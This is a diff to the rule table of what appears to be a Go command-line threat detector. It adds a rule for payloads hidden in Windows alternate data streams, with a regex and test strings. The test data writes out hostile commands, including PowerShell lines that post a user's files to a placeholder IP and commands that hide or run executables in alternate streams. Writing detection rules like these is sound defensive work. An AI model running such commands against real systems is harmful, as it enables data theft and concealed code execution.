@@ -141,6 +141,15 @@ var textRules = []*textRule{
 		`get-content|\bgc\b|\bcat\b|readall`,
 		[]string{"Invoke-WebRequest -Uri http://198.51.100.42/u -Method Post -Body (Get-Content C:\\Users\\bob\\Documents\\notes.txt)", "$b=[IO.File]::ReadAllBytes('C:\\Users\\Public\\d.zip'); Invoke-RestMethod -Uri http://198.51.100.42/u -Method Post -Body $b"},
 		[]string{"Invoke-RestMethod -Uri https://api.example.org/items -Method Post -Body (Get-Content .\\item.json -Raw) -ContentType application/json"}),
+	// An alternate data stream named with a program or script extension,
+	// written or run (file.txt:payload.exe): where payloads hide. The
+	// Zone.Identifier stream a download carries has no such extension.
+	tr("win-ads-payload", "defense evasion", high, "writes or runs a program or script hidden in an alternate data stream (ATT&CK T1564.004)",
+		[]string{":"},
+		`[a-z0-9_)\]-]\.[a-z0-9]{1,5}:[a-z0-9_$-][a-z0-9_.$-]*\.(exe|dll|bat|cmd|ps1|vbs|vbe|js|jse|hta|sct|cab|reg|ini|scr|msi|tgz|zip|bin)\b`,
+		``,
+		[]string{"print /D:C:\\Users\\Public\\notes.txt:x.exe C:\\Users\\Public\\x.exe", "makecab C:\\Users\\Public\\a.exe C:\\Users\\Public\\n.txt:a.cab", "cmd.exe - < report.doc:run.bat"},
+		[]string{"Get-Content C:\\Test\\a.ps1 -Stream Zone.Identifier", "curl https://example.org:8443/file.zip -o file.zip"}),
 	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
 		[]string{"iex", "invoke-expression"},
 		`(\biex\b|invoke-expression)`,
